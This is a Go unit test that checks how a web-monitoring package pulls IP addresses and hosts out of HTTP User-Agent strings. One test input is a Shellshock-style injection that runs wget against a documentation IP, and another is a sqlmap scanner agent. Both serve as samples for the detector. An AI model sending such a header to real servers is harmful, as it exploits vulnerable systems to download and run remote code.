package webfield

import (
	"testing"

	"entente/watch/event"
)

func TestAgentVersionsAreNoAddresses(t *testing.T) {
	for agent, want := range map[string]string{
		"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36": "",
		"probe from 192.0.2.7 Tool/1.2.3.4":    "192.0.2.7",
		"sqlmap/1.7 (http://sqlmap.example)":   "sqlmap.example/",
		"() { :; }; wget http://203.0.113.9/x": "203.0.113.9/x",
		"-":                                    "",
		"/":                                    "",
	} {
		var ev event.Event
		Agent(&ev, agent)
		got := ""
		if len(ev.Observables) > 0 {
			got = ev.Observables[0].Value.Canonical
		}
		if got != want {
			t.Errorf("%s: observed %q, want %q", agent, got, want)
		}
	}
}
